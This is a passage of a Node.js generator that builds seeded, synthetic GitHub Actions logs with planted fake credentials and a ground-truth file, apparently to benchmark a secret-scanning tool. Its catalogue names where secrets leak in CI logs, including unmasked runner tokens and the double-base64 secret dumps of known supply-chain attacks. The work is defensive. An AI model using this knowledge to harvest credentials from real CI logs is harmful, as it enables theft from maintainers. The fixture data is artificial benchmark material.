#!/usr/bin/env node
// Deterministic GitHub Actions job log with planted credentials, for `bench/logs/run.mjs`.
//
//   node bench/logs/generate.mjs [--size MB] [--seed N] [--out DIR] [--force]
//
// Writes <out>/ci-<size>mb-s<seed>.log and a ground-truth file next to it (`.truth.json`):
// every planted credential with its 1-based line, the detector kind it belongs to and how it
// was planted. Everything comes from one seeded PRNG (mulberry32) and a fixed start time, so the
// same seed, size and GENERATOR_VERSION give the same bytes on every machine; bump the version
// whenever the output changes. The log is one long stream of job logs (as a run's per-job logs
// concatenated), each line prefixed with the runner's 7-digit ISO timestamp.
//
// The stream does not depend on the requested size: a smaller size gives a prefix of a larger
// log (cut at a step boundary), so results on 50 MB and 200 MB are comparable.

import { createHash } from 'node:crypto';
import { closeSync, existsSync, mkdirSync, openSync, readFileSync, renameSync, statSync, writeFileSync, writeSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { parseArgs } from 'node:util';
import {
  ALNUM,
  JWT_IO_EXAMPLE,
  Rng,
  actionsRuntimeToken,
  badChecksum,
  checksummed,
  githubOidcJwt,
  other,
  privateKeyPem,
  pypiVariant,
} from './tokens.mjs';

export const GENERATOR_VERSION = 3;
export const DEFAULT_SEED = 20250314;
export const DEFAULT_SIZE_MB = 200;
/** One planted credential per this many bytes on average (≈ 5 per MB, the research fixture's rate). */
export const PLANT_EVERY_BYTES = 200_000;
/** One double-base64 dump per this many bytes on average. */
export const DUMP_EVERY_BYTES = 4_000_000;
/** One look-alike (documentation example, placeholder, masked value) per this many bytes. */
export const DECOY_EVERY_BYTES = 1_000_000;

const HERE = path.dirname(fileURLToPath(import.meta.url));
export const DATA_DIR = path.join(HERE, '.data');
const START_MS = Date.UTC(2025, 8, 5, 10, 0, 0); // 2025-09-05T10:00:00Z
const MB = 1e6;

// ---------------------------------------------------------------------------------------------
// Vocabulary

const WORDS = ['atlas', 'birch', 'cobalt', 'delta', 'ember', 'fjord', 'garnet', 'harbor', 'iris', 'juniper', 'kestrel', 'lumen', 'maple', 'nimbus', 'onyx', 'pylon', 'quartz', 'raven', 'sable', 'tundra', 'umber', 'vertex', 'willow', 'xenon', 'yarrow', 'zephyr', 'aurora', 'basalt', 'cinder', 'dune'];
const ORGS = ['acme-labs', 'openfoo', 'pyutils', 'nodekit', 'dataworks', 'infra-tools', 'sci-py', 'webstack', 'cloudbits', 'octo-org'];
const PY_PACKAGES = [
  ['requests', '2.32.3', 'py3-none-any', 64.9], ['urllib3', '2.2.3', 'py3-none-any', 126.3], ['idna', '3.10', 'py3-none-any', 70.4], ['certifi', '2024.8.30', 'py3-none-any', 167.3],
  ['charset_normalizer', '3.4.0', 'cp312-cp312-manylinux_2_17_x86_64.manylinux2014_x86_64', 143.8], ['numpy', '2.1.3', 'cp312-cp312-manylinux_2_17_x86_64.manylinux2014_x86_64', 16_000],
  ['pandas', '2.2.3', 'cp312-cp312-manylinux_2_17_x86_64.manylinux2014_x86_64', 12_700], ['pytest', '8.3.3', 'py3-none-any', 342.3], ['pluggy', '1.5.0', 'py3-none-any', 20.6],
  ['iniconfig', '2.0.0', 'py3-none-any', 5.9], ['packaging', '24.2', 'py3-none-any', 65.5], ['pytest_cov', '6.0.0', 'py3-none-any', 22.5], ['coverage', '7.6.7', 'cp312-cp312-manylinux_2_5_x86_64.manylinux1_x86_64.manylinux_2_17_x86_64.manylinux2014_x86_64', 240.1],
  ['pydantic', '2.9.2', 'py3-none-any', 434.9], ['pydantic_core', '2.23.4', 'cp312-cp312-manylinux_2_17_x86_64.manylinux2014_x86_64', 2100], ['typing_extensions', '4.12.2', 'py3-none-any', 37.6],
  ['annotated_types', '0.7.0', 'py3-none-any', 13.6], ['sqlalchemy', '2.0.36', 'cp312-cp312-manylinux_2_17_x86_64.manylinux2014_x86_64', 3200], ['greenlet', '3.1.1', 'cp312-cp312-manylinux_2_24_x86_64.manylinux_2_28_x86_64', 613.1],
  ['psycopg2_binary', '2.9.10', 'cp312-cp312-manylinux_2_17_x86_64.manylinux2014_x86_64', 3000], ['boto3', '1.35.63', 'py3-none-any', 139.2], ['botocore', '1.35.63', 'py3-none-any', 12_800],
  ['s3transfer', '0.10.3', 'py3-none-any', 82.6], ['jmespath', '1.0.1', 'py3-none-any', 20.3], ['python_dateutil', '2.9.0.post0', 'py2.py3-none-any', 229.9], ['six', '1.16.0', 'py2.py3-none-any', 11.1],
  ['attrs', '24.2.0', 'py3-none-any', 63], ['click', '8.1.7', 'py3-none-any', 97.9], ['rich', '13.9.4', 'py3-none-any', 242.4], ['pygments', '2.18.0', 'py3-none-any', 1200], ['markdown_it_py', '3.0.0', 'py3-none-any', 87.5],
  ['mdurl', '0.1.2', 'py3-none-any', 10], ['build', '1.2.2.post1', 'py3-none-any', 22.9], ['twine', '5.1.1', 'py3-none-any', 38.8], ['readme_renderer', '44.0', 'py3-none-any', 13.3], ['keyring', '25.5.0', 'py3-none-any', 39.1],
  ['cryptography', '43.0.3', 'cp39-abi3-manylinux_2_28_x86_64', 4000], ['cffi', '1.17.1', 'cp312-cp312-manylinux_2_17_x86_64.manylinux2014_x86_64', 479.4], ['pycparser', '2.22', 'py3-none-any', 117.6],
  ['mypy', '1.13.0', 'cp312-cp312-manylinux_2_17_x86_64.manylinux2014_x86_64.manylinux_2_28_x86_64', 12_600], ['ruff', '0.7.4', 'py3-none-manylinux_2_17_x86_64.manylinux2014_x86_64', 11_000], ['hypothesis', '6.119.3', 'py3-none-any', 473.3],
  ['sortedcontainers', '2.4.0', 'py2.py3-none-any', 29.6], ['jinja2', '3.1.4', 'py3-none-any', 133.3], ['markupsafe', '3.0.2', 'cp312-cp312-manylinux_2_17_x86_64.manylinux2014_x86_64', 23.3], ['moto', '5.0.21', 'py3-none-any', 4600],
  ['pyyaml', '6.0.2', 'cp312-cp312-manylinux_2_17_x86_64.manylinux2014_x86_64', 767.5], ['tomli', '2.1.0', 'py3-none-any', 13.4], ['virtualenv', '20.27.1', 'py3-none-any', 3100], ['filelock', '3.16.1', 'py3-none-any', 16.2],
];
const NPM_PACKAGES = ['lodash', 'react', 'react-dom', 'typescript', 'esbuild', 'vite', 'rollup', 'webpack', 'eslint', 'prettier', '@babel/core', '@babel/parser', 'chalk', 'commander', 'debug', 'semver', 'glob', 'minimatch', 'yaml', 'ajv', 'zod', 'undici', 'ws', 'postcss', 'tailwindcss', 'jest', 'vitest', '@types/node', 'tslib', 'rxjs', 'axios', 'uuid', 'nanoid', 'fast-glob', 'picomatch', 'micromatch', 'source-map', 'acorn', 'terser', 'browserslist'];
const DEPRECATED = [
  ['inflight@1.0.6', 'This module is not supported, and leaks memory. Do not use it. Check out lru-cache if you want a good and tested way to coalesce async requests by a key value, which is much more comprehensive and powerful.'],
  ['glob@7.2.3', 'Glob versions prior to v9 are no longer supported'],
  ['rimraf@3.0.2', 'Rimraf versions prior to v4 are no longer supported'],
  ['@humanwhocodes/config-array@0.13.0', 'Use @eslint/config-array instead'],
  ['abab@2.0.6', 'Use your platform\'s native atob() and btoa() methods instead'],
];
const OSES = ['Linux', 'macOS', 'Windows'];
const PYTHONS = ['3.9.20', '3.10.15', '3.11.10', '3.12.7', '3.13.0'];
const TEST_NAMES = ['parses_empty_input', 'roundtrip', 'handles_unicode', 'rejects_invalid_token', 'retries_on_timeout', 'caches_results', 'merges_config', 'respects_env', 'streams_large_file', 'closes_connection', 'sorts_stable', 'validates_schema', 'computes_digest', 'renders_template', 'paginates'];
const ACTIONS = [
  ['actions/checkout', 'v4'], ['actions/setup-python', 'v5'], ['actions/setup-node', 'v4'], ['actions/cache', 'v4'], ['actions/upload-artifact', 'v4'], ['actions/download-artifact', 'v4'],
  ['pypa/gh-action-pypi-publish', 'release/v1'], ['docker/build-push-action', 'v6'], ['docker/login-action', 'v3'], ['astral-sh/setup-uv', 'v5'], ['codecov/codecov-action', 'v4'], ['tj-actions/changed-files', 'v45'],
];
const JS_IDENTS = ['e', 't', 'n', 'r', 'o', 'i', 'a', 's', 'u', 'c', 'l', 'f', 'p', 'd', 'h', 'm', 'g', 'v', 'y', 'b'];
const JS_WORDS = ['function', 'return', 'var', 'const', 'let', 'this', 'new', 'typeof', 'void 0', 'null', 'undefined', 'Object.defineProperty', 'exports', 'module', 'prototype', 'Symbol.iterator', 'Promise.resolve', 'Array.isArray', 'JSON.stringify', 'createElement', 'useState', 'useEffect', 'forwardRef', 'Fragment', 'children', 'className', 'props', 'default', 'length', 'push', 'apply', 'call'];

// ---------------------------------------------------------------------------------------------
// The planting plan: every kind the detectors should cover, in variants. Each cycle of the
// plan visits every entry once in a shuffled order, so every variant is planted about equally.

/**
 * The kinds planted, named after the cordon detector (`src/detectors/index.ts`) that should report
 * them, so the ground truth says which rule is expected; `encoded-dump` is a double-base64 dump.
 */
export const KINDS = {
  'pypi-token': 'PyPI API token (user, project or legacy scope)',
  'pypi-trusted-publishing-token': 'PyPI token minted by Trusted Publishing (900 s expiry caveat)',
  'testpypi-token': 'TestPyPI token (location test.pypi.org)',
  'github-pat': 'GitHub classic PAT ghp_ (CRC32 checksum)',
  'github-oauth-token': 'GitHub OAuth token gho_',
  'github-app-user-token': 'GitHub App user-to-server token ghu_',
  'github-app-installation-token': 'GitHub App installation token ghs_ (also the GITHUB_TOKEN)',
  'github-app-refresh-token': 'GitHub App refresh token ghr_',
  'github-fine-grained-pat': 'GitHub fine-grained PAT github_pat_',
  'github-oidc-jwt': 'GitHub Actions OIDC ID token (JWT)',
  jwt: 'other JWT (an API bearer token)',
  'actions-id-token-request-token': 'ACTIONS_ID_TOKEN_REQUEST_TOKEN= in an unmasked env dump',
  'actions-id-token-request-url': 'ACTIONS_ID_TOKEN_REQUEST_URL= next to it',
  'actions-runtime-token': 'ACTIONS_RUNTIME_TOKEN= in an unmasked env dump',
  'actions-runner-secret': 'runner memory entry "NAME":{"value":"…","isSecret":true}, not base64-encoded',
  'npm-token': 'npm access token npm_ (CRC32 checksum)',
  'aws-access-key-id': 'AWS access key id (AKIA/ASIA)',
  'aws-secret-access-key': 'AWS secret access key',
  'aws-session-token': 'AWS session token',
  'docker-hub-token': 'Docker Hub dckr_pat_/dckr_oat_',
  'cloudflare-api-token': 'Cloudflare API token, global key, cfat_',
  'gitlab-pat': 'GitLab PAT glpat-',
  'gitlab-ci-job-token': 'GitLab CI job token glcbt-',
  'gitlab-deploy-token': 'GitLab deploy token gldt-',
  'gitlab-runner-token': 'GitLab runner token glrt-',
  'gitlab-pipeline-trigger-token': 'GitLab pipeline trigger token glptt-',
  'gitlab-token': 'other GitLab tokens (glft-, glagent-)',
  'slack-token': 'Slack xoxb-/xoxp- token',
  'slack-webhook-url': 'Slack incoming webhook URL',
  'openai-api-key': 'OpenAI API key',
  'anthropic-api-key': 'Anthropic API key',
  'private-key': 'PEM private key block',
  'database-url': 'database URL with a password (PostgreSQL, MySQL, MongoDB, Redis, AMQP)',
  'encoded-dump': 'double-base64 secrets dump (tj-actions / Shai-Hulud) holding a ghs_ and a pypi- token',
};

const PLAN = [
  ['pypi-token', 'user'], ['pypi-token', 'legacy-user'], ['pypi-token', 'project'], ['pypi-token', 'project-2'], ['pypi-token', 'legacy-project'],
  ['pypi-trusted-publishing-token', 'trusted-publishing'], ['pypi-trusted-publishing-token', 'trusted-publishing-2'],
  ['testpypi-token', 'testpypi-user'], ['testpypi-token', 'testpypi-trusted-publishing'],
  ['github-pat', 'ghp'], ['github-oauth-token', 'gho'], ['github-app-user-token', 'ghu'], ['github-app-installation-token', 'ghs'], ['github-app-refresh-token', 'ghr'],
  ['github-fine-grained-pat', 'github_pat'],
  ['github-oidc-jwt', 'curl-response'], ['github-oidc-jwt', 'xtrace'], ['jwt', 'bearer'],
  ['actions-runtime-token', 'env-dump'], ['actions-runner-secret', 'memdump'],
  ['npm-token', 'npmrc'], ['npm-token', 'env'],
  ['aws-access-key-id', 'credentials-file'], ['aws-access-key-id', 'env-session'],
  ['docker-hub-token', 'dckr_pat'], ['docker-hub-token', 'dckr_oat'],
  ['cloudflare-api-token', 'env'], ['cloudflare-api-token', 'global-key'], ['cloudflare-api-token', 'cfat'],
  ['gitlab-pat', 'clone-url'], ['gitlab-ci-job-token', 'env'], ['gitlab-deploy-token', 'docker-login'], ['gitlab-runner-token', 'register'],
  ['gitlab-pipeline-trigger-token', 'curl'], ['gitlab-token', 'glft'], ['gitlab-token', 'glagent'],
  ['slack-token', 'xoxb'], ['slack-token', 'xoxp'], ['slack-webhook-url', 'xtrace'],
  ['openai-api-key', 'project'], ['openai-api-key', 'svcacct'], ['openai-api-key', 'legacy'], ['anthropic-api-key', 'api03'], ['anthropic-api-key', 'admin01'],
  ['private-key', 'rsa'], ['private-key', 'pkcs8'], ['private-key', 'ec'], ['private-key', 'openssh'],
  ['database-url', 'postgres-env'], ['database-url', 'postgres-migration'], ['database-url', 'mysql'], ['database-url', 'mongodb'], ['database-url', 'redis'], ['database-url', 'amqp'],
];

// ---------------------------------------------------------------------------------------------
// Output: timestamped lines, counted as they are written.

class LogWriter {
  constructor(fd, rng) {
    this.fd = fd;
    this.rng = rng;
    this.lines = 0;
    this.bytes = 0;
    this.chunks = [];
    this.chunkBytes = 0;
    this.hash = createHash('sha256');
    this.t = 0; // 100 ns ticks since START_MS
    this.secondKey = -1;
    this.secondText = '';
  }
  nowSeconds() {
    return Math.floor((START_MS + this.t / 10_000) / 1000);
  }
  /** Advances the clock by up to `maxMs` milliseconds. */
  advance(maxMs) {
    this.t += Math.floor(this.rng.next() * maxMs * 10_000);
  }
  stamp() {
    this.t += (this.rng.u32() & 0x3fff) + 1; // 0.1 µs … 1.6 ms between lines
    const ms = START_MS + Math.floor(this.t / 10_000);
    const second = Math.floor(ms / 1000);
    if (second !== this.secondKey) {
      this.secondKey = second;
      this.secondText = new Date(second * 1000).toISOString().slice(0, 19);
    }
    const frac = String(this.t % 10_000_000).padStart(7, '0');
    return `${this.secondText}.${frac}Z `;
  }
  /** Writes one line; returns its 1-based number. */
  line(text) {
    const out = `${this.stamp()}${text}\n`;
    this.chunks.push(out);
    const n = Buffer.byteLength(out);
    this.bytes += n;
    this.chunkBytes += n;
    if (this.chunkBytes > 1 << 20) this.flush();
    return ++this.lines;
  }
  flush() {
    if (!this.chunks.length) return;
    const text = this.chunks.join('');
    this.hash.update(text);
    writeSync(this.fd, text);
    this.chunks = [];
    this.chunkBytes = 0;
  }
}

// ---------------------------------------------------------------------------------------------
// The generator

export function generateLog({ file, sizeMb = DEFAULT_SIZE_MB, seed = DEFAULT_SEED, onProgress } = {}) {
  const rng = new Rng(seed);
  const target = Math.round(sizeMb * MB);
  mkdirSync(path.dirname(file), { recursive: true });
  const tmp = `${file}.tmp`;
  const fd = openSync(tmp, 'w');
  const w = new LogWriter(fd, rng);
  const planted = [];
  const decoys = [];
  /** Lines a tool may report without it counting as a false positive (context of a planted secret). */
  const related = [];
  let plan = [];
  let nextPlant = Math.floor(PLANT_EVERY_BYTES * (0.2 + rng.next()));
  let nextDump = Math.floor(DUMP_EVERY_BYTES * (0.3 + rng.next()));
  let nextDecoy = Math.floor(DECOY_EVERY_BYTES * (0.1 + rng.next()));
  let nextProgress = 10 * MB;

  // The job context: one repository per job.
  let job = null;
  const newJob = () => {
    const owner = rng.pick(ORGS);
    const repo = `${rng.pick(WORDS)}-${rng.pick(WORDS)}`;
    job = { owner, repo, full: `${owner}/${repo}`, project: repo.replace(/-/g, '_'), os: rng.weighted([[70, 'Linux'], [20, 'macOS'], [10, 'Windows']]), python: rng.pick(PYTHONS), debug: rng.chance(0.15) };
  };

  const record = (kind, variant, line, value, extra = {}) => {
    planted.push({ id: planted.length + 1, kind, variant, line, endLine: extra.endLine ?? line, length: value.length, value, ...(extra.context ? { context: extra.context } : {}), ...(extra.inner ? { inner: extra.inner } : {}) });
  };

  const g = makeSteps(rng, w, () => job);

  const plantOne = () => {
    if (!plan.length) plan = rng.shuffle(PLAN);
    const [kind, variant] = plan.pop();
    plant(rng, w, job, kind, variant, record, related);
  };

  while (w.bytes < target) {
    w.advance(300_000); // jobs start minutes apart
    newJob();
    g.jobHeader();
    const steps = g.pickSteps();
    for (const step of steps) {
      w.advance(15_000); // steps take seconds
      step();
      // Planted credentials go between steps, each in a small step of its own; look-alikes too.
      while (w.bytes >= nextPlant) {
        plantOne();
        nextPlant += Math.floor(PLANT_EVERY_BYTES * (0.5 + rng.next()));
      }
      if (w.bytes >= nextDump) {
        plantDump(rng, w, job, record, related);
        nextDump += Math.floor(DUMP_EVERY_BYTES * (0.5 + rng.next()));
      }
      if (w.bytes >= nextDecoy) {
        decoy(rng, w, job, decoys);
        nextDecoy += Math.floor(DECOY_EVERY_BYTES * (0.5 + rng.next()));
      }
      if (w.bytes >= nextProgress) {
        onProgress?.(w.bytes);
        nextProgress += 10 * MB;
      }
      if (w.bytes >= target) break;
    }
    if (w.bytes < target) g.jobFooter();
  }
  w.flush();
  closeSync(fd);
  renameSync(tmp, file);

  const byKind = {};
  for (const p of planted) byKind[p.kind] = (byKind[p.kind] ?? 0) + 1;
  const truth = {
    generator: GENERATOR_VERSION,
    seed,
    sizeMb,
    bytes: w.bytes,
    lines: w.lines,
    sha256: w.hash.digest('hex'),
    kinds: KINDS,
    byKind,
    planted,
    related: [...new Set(related)].sort((a, b) => a - b),
    decoys,
  };
  return truth;
}

// ---------------------------------------------------------------------------------------------
// Noise: what a job log is made of

function makeSteps(rng, w, getJob) {
  const L = (text) => w.line(text);
  const sha = () => rng.hex(40);
  const sha256 = () => rng.hex(64);
  const pyPkg = () => rng.pick(PY_PACKAGES);
  const bar = (total, unit) => `     ${'━'.repeat(40)} ${total}/${total} ${unit} ${(rng.next() * 120 + 5).toFixed(1)} MB/s eta 0:00:00`;
  const size = (kb) => (kb >= 1000 ? `${(kb / 1000).toFixed(1)} MB` : `${kb.toFixed(1)} kB`);
  const tmpUuid = () => `/home/runner/work/_temp/${rng.uuid()}`;

  const group = (title, body) => {
    L(`##[group]${title}`);
    for (const line of body) L(line);
    L('##[endgroup]');
  };
  const debug = (text) => {
    if (getJob().debug) L(`##[debug]${text}`);
  };
  const runHeader = (script, env = {}) => {
    const j = getJob();
    const lines = script.split('\n');
    L(`##[group]Run ${lines[0]}`);
    for (const line of lines) L(line);
    L(`shell: /usr/bin/bash -e {0}`);
    const envLines = [`  pythonLocation: /opt/hostedtoolcache/Python/${j.python}/x64`, ...Object.entries(env).map(([k, v]) => `  ${k}: ${v}`)];
    if (rng.chance(0.6) || Object.keys(env).length) {
      L('env:');
      for (const line of envLines) L(line);
    }
    L('##[endgroup]');
  };
  const actionHeader = (name, ref, inputs) => {
    L(`##[group]Run ${name}@${ref}`);
    L('with:');
    for (const [k, v] of Object.entries(inputs)) L(`  ${k}: ${v}`);
    L('##[endgroup]');
  };

  const jobHeader = () => {
    const j = getJob();
    L(`Current runner version: '2.${rng.int(319, 328)}.${rng.int(0, 3)}'`);
    L(`Runner name: 'GitHub Actions ${rng.int(1, 999)}'`);
    L(`Runner group name: 'GitHub Actions'`);
    L(`Machine name: '${j.os === 'Linux' ? 'runnervm' : j.os === 'macOS' ? 'Mac-' : 'runner'}${rng.str('abcdefghijklmnopqrstuvwxyz0123456789', 6)}'`);
    group('Operating System', j.os === 'Linux' ? ['Ubuntu', '24.04.3', 'LTS'] : j.os === 'macOS' ? ['macOS', '14.7.1', '23H222'] : ['Microsoft Windows Server 2022', '10.0.20348', 'Datacenter']);
    group('Runner Image', [`Image: ${j.os === 'Linux' ? 'ubuntu-24.04' : j.os === 'macOS' ? 'macos-14-arm64' : 'windows-2022'}`, `Version: 20250${rng.int(101, 831)}.${rng.int(1, 200)}.1`, `Included Software: https://github.com/actions/runner-images/blob/ubuntu24/20250901.${rng.int(1, 99)}/images/ubuntu/Ubuntu2404-Readme.md`, `Image Release: https://github.com/actions/runner-images/releases/tag/ubuntu24%2F20250901.${rng.int(1, 99)}`]);
    group('GITHUB_TOKEN Permissions', rng.chance(0.5) ? ['Contents: read', 'Metadata: read'] : ['Contents: write', 'Metadata: read', 'IdToken: write', 'Packages: write', 'PullRequests: write']);
    L('Secret source: Actions');
    L('Prepare workflow directory');
    L('Prepare all required actions');
    L('Getting action download info');
    for (const [name, ref] of rng.sample(ACTIONS, rng.int(2, 6))) L(`Download action repository '${name}@${ref}' (SHA:${sha()})`);
    L(`Complete job name: ${rng.pick(['test', 'build', 'lint', 'release', 'publish', 'docs'])} (${rng.pick(['ubuntu-latest', 'macos-latest', 'windows-latest'])}, ${j.python.split('.').slice(0, 2).join('.')})`);
  };

  const jobFooter = () => {
    const j = getJob();
    L('Post job cleanup.');
    L('[command]/usr/bin/git version');
    L(`git version 2.${rng.int(45, 51)}.${rng.int(0, 2)}`);
    L(`Temporarily overriding HOME='${tmpUuid()}' before making global git config changes`);
    L(`Adding repository directory to the temporary git global config as a safe directory`);
    L(`[command]/usr/bin/git config --global --add safe.directory /home/runner/work/${j.repo}/${j.repo}`);
    L(`[command]/usr/bin/git config --local --name-only --get-regexp core\\.sshCommand`);
    L(`[command]/usr/bin/git submodule foreach --recursive sh -c "git config --local --name-only --get-regexp 'core\\.sshCommand' && git config --local --unset-all 'core.sshCommand' || :"`);
    L(`[command]/usr/bin/git config --local --name-only --get-regexp http\\.https\\:\\/\\/github\\.com\\/\\.extraheader`);
    L('http.https://github.com/.extraheader');
    L(`[command]/usr/bin/git config --local --unset-all http.https://github.com/.extraheader`);
    L('Cleaning up orphan processes');
  };

  const checkout = () => {
    const j = getJob();
    const commit = sha();
    actionHeader('actions/checkout', 'v4', { repository: j.full, token: '***', 'ssh-strict': 'true', 'ssh-user': 'git', 'persist-credentials': 'true', clean: 'true', 'sparse-checkout-cone-mode': 'true', 'fetch-depth': '1', 'fetch-tags': 'false', 'show-progress': 'true', lfs: 'false', submodules: 'false', 'set-safe-directory': 'true' });
    L(`Syncing repository: ${j.full}`);
    group('Getting Git version info', [`Working directory is '/home/runner/work/${j.repo}/${j.repo}'`, '[command]/usr/bin/git version', 'git version 2.51.0']);
    L(`Temporarily overriding HOME='${tmpUuid()}' before making global git config changes`);
    L('Adding repository directory to the temporary git global config as a safe directory');
    L(`[command]/usr/bin/git config --global --add safe.directory /home/runner/work/${j.repo}/${j.repo}`);
    L(`Deleting the contents of '/home/runner/work/${j.repo}/${j.repo}'`);
    group('Initializing the repository', ['[command]/usr/bin/git init /home/runner/work/' + j.repo + '/' + j.repo, "hint: Using 'master' as the name for the initial branch. This default branch name", 'hint: is subject to change. To configure the initial branch name to use in all', `Initialized empty Git repository in /home/runner/work/${j.repo}/${j.repo}/.git/`, `[command]/usr/bin/git remote add origin https://github.com/${j.full}`]);
    group('Disabling automatic garbage collection', ['[command]/usr/bin/git config --local gc.auto 0']);
    group('Setting up auth', [
      `[command]/usr/bin/git config --local --name-only --get-regexp core\\.sshCommand`,
      `[command]/usr/bin/git config --local http.https://github.com/.extraheader AUTHORIZATION: basic ***`,
    ]);
    group('Fetching the repository', [
      `[command]/usr/bin/git -c protocol.version=2 fetch --no-tags --prune --no-recurse-submodules --depth=1 origin +${commit}:refs/remotes/origin/main`,
      `From https://github.com/${j.full}`,
      ` * [new ref]         ${commit} -> origin/main`,
    ]);
    group('Determining the checkout info', []);
    L(`[command]/usr/bin/git sparse-checkout disable`);
    L(`[command]/usr/bin/git config --local --unset-all extensions.worktreeConfig`);
    group('Checking out the ref', [`[command]/usr/bin/git checkout --progress --force -B main refs/remotes/origin/main`, `Switched to a new branch 'main'`, `branch 'main' set up to track 'origin/main'.`]);
    L(`[command]/usr/bin/git log -1 --format=%H`);
    L(commit);
  };

  const cacheRestore = (kind = 'pip') => {
    const j = getJob();
    const key = `${rng.chance(0.8) ? j.os : rng.pick(OSES)}-${kind}-${sha256()}`;
    actionHeader('actions/cache', 'v4', { path: kind === 'pip' ? '~/.cache/pip' : '~/.npm', key, 'restore-keys': `${j.os}-${kind}-`, enableCrossOsArchive: 'false', 'fail-on-cache-miss': 'false', 'lookup-only': 'false', 'save-always': 'false' });
    if (rng.chance(0.2)) {
      L(`Cache not found for input keys: ${key}, ${j.os}-${kind}-`);
      return;
    }
    const bytes = rng.int(5_000_000, 600_000_000);
    L(`Cache Size: ~${Math.round(bytes / 1048576)} MB (${bytes} B)`);
    L(`[command]/usr/bin/tar -xf ${tmpUuid()}/cache.tzst -P -C /home/runner/work/${j.repo}/${j.repo} --use-compress-program unzstd`);
    for (let got = 0; got < bytes; ) {
      got = Math.min(bytes, got + rng.int(30_000_000, 200_000_000));
      L(`Received ${got} of ${bytes} (${((100 * got) / bytes).toFixed(1)}%), ${(rng.next() * 200 + 20).toFixed(1)} MBs/sec`);
    }
    L('Cache restored successfully');
    L(`Cache restored from key: ${key}`);
  };

  const setupPython = () => {
    const j = getJob();
    actionHeader('actions/setup-python', 'v5', { 'python-version': j.python.split('.').slice(0, 2).join('.'), cache: 'pip', 'check-latest': 'false', token: '***', 'update-environment': 'true', 'allow-prereleases': 'false', freethreaded: 'false' });
    group('Installed versions', [`Successfully set up CPython (${j.python})`]);
    L(`[command]/opt/hostedtoolcache/Python/${j.python}/x64/bin/pip cache dir`);
    L('/home/runner/.cache/pip');
    L(`Cache hit for: setup-python-${j.os}-x64-24.04-Ubuntu-python-${j.python}-pip-${sha256()}`);
    const bytes = rng.int(1_000_000, 80_000_000);
    L(`Received ${bytes} of ${bytes} (100.0%), ${(rng.next() * 80 + 5).toFixed(1)} MBs/sec`);
    L(`Cache Size: ~${Math.max(1, Math.round(bytes / 1048576))} MB (${bytes} B)`);
    L(`[command]/usr/bin/tar -xf ${tmpUuid()}/cache.tzst -P -C /home/runner/work/${j.repo}/${j.repo} --use-compress-program unzstd`);
    L('Cache restored successfully');
    L(`Cache restored from key: setup-python-${j.os}-x64-24.04-Ubuntu-python-${j.python}-pip-${sha256()}`);
  };

  const pipInstall = () => {
    const j = getJob();
    runHeader(rng.pick(['python -m pip install --upgrade pip', 'pip install -r requirements.txt', 'pip install -e ".[test]"', 'python -m pip install --require-hashes -r requirements/ci.txt', 'pip install build twine']));
    const n = rng.int(8, 45);
    const pkgs = rng.sample(PY_PACKAGES, Math.min(n, PY_PACKAGES.length));
    const hashed = rng.chance(0.3);
    for (const [name, version, tag, kb] of pkgs) {
      if (rng.chance(0.25)) {
        L(`Requirement already satisfied: ${name.replace(/_/g, '-')} in /opt/hostedtoolcache/Python/${j.python}/x64/lib/python${j.python.split('.').slice(0, 2).join('.')}/site-packages (${version})`);
        continue;
      }
      L(`Collecting ${name.replace(/_/g, '-')}==${version} (from -r requirements.txt (line ${rng.int(1, 80)}))`);
      if (rng.chance(0.3)) {
        L(`  Using cached ${name}-${version}-${tag}.whl.metadata (${size(rng.next() * 20 + 1)})`);
        continue;
      }
      L(`  Downloading ${name}-${version}-${tag}.whl.metadata (${size(rng.next() * 20 + 1)})`);
      L(`  Downloading ${name}-${version}-${tag}.whl (${size(kb)})`);
      L(kb >= 1000 ? bar((kb / 1000).toFixed(1), 'MB') : bar(kb.toFixed(1), 'kB'));
      if (hashed && rng.chance(0.1)) L(`  Hash of the downloaded file: sha256:${sha256()}`);
    }
    if (rng.chance(0.3)) {
      L('Building wheels for collected packages: ' + j.project);
      L(`  Building editable for ${j.project} (pyproject.toml): started`);
      L(`  Building editable for ${j.project} (pyproject.toml): finished with status 'done'`);
      L(`  Created wheel for ${j.project}: filename=${j.project}-0.${rng.int(1, 30)}.${rng.int(0, 9)}-0.editable-py3-none-any.whl size=${rng.int(3000, 9000)} sha256=${sha256()}`);
      L(`  Stored in directory: ${tmpUuid()}/wheels/${rng.hex(2)}/${rng.hex(2)}/${rng.hex(60)}`);
      L(`Successfully built ${j.project}`);
    }
    L(`Installing collected packages: ${pkgs.map((p) => p[0].replace(/_/g, '-')).join(', ')}`);
    L(`Successfully installed ${pkgs.map((p) => `${p[0].replace(/_/g, '-')}-${p[1]}`).join(' ')}`);
    if (rng.chance(0.3)) {
      L('');
      L('[notice] A new release of pip is available: 24.2 -> 25.2');
      L('[notice] To update, run: pip install --upgrade pip');
    }
  };

  const uvSync = () => {
    runHeader('uv sync --all-extras --dev');
    L(`Using CPython ${getJob().python} interpreter at: /opt/hostedtoolcache/Python/${getJob().python}/x64/bin/python3`);
    L('Creating virtual environment at: .venv');
    L(`Resolved ${rng.int(20, 180)} packages in ${rng.int(1, 900)}ms`);
    const pkgs = rng.sample(PY_PACKAGES, rng.int(5, 30));
    L(`Prepared ${pkgs.length} packages in ${rng.int(100, 3000)}ms`);
    L(`Installed ${pkgs.length} packages in ${rng.int(5, 200)}ms`);
    for (const [name, version] of pkgs) L(` + ${name.replace(/_/g, '-')}==${version}`);
  };

  const npmCi = () => {
    runHeader(rng.pick(['npm ci', 'npm ci --loglevel http', 'npm install --no-audit', 'pnpm install --frozen-lockfile']));
    for (const [pkg, msg] of rng.sample(DEPRECATED, rng.int(0, 4))) L(`npm warn deprecated ${pkg}: ${msg}`);
    if (rng.chance(0.4)) {
      for (const pkg of rng.sample(NPM_PACKAGES, rng.int(10, 40))) {
        const v = `${rng.int(0, 18)}.${rng.int(0, 30)}.${rng.int(0, 20)}`;
        L(`npm http fetch GET 200 https://registry.npmjs.org/${pkg}/-/${pkg.split('/').pop()}-${v}.tgz ${rng.int(3, 900)}ms (cache ${rng.pick(['miss', 'hit', 'revalidated'])})`);
      }
    }
    if (rng.chance(0.3)) {
      // A lockfile diff or `pnpm-lock.yaml` excerpt printed by a check step.
      for (const pkg of rng.sample(NPM_PACKAGES, rng.int(5, 20))) {
        const v = `${rng.int(0, 18)}.${rng.int(0, 30)}.${rng.int(0, 20)}`;
        if (rng.chance(0.5)) {
          L(`  /${pkg}@${v}:`);
          L(`    resolution: {integrity: sha512-${rng.b64(64)}}`);
        } else {
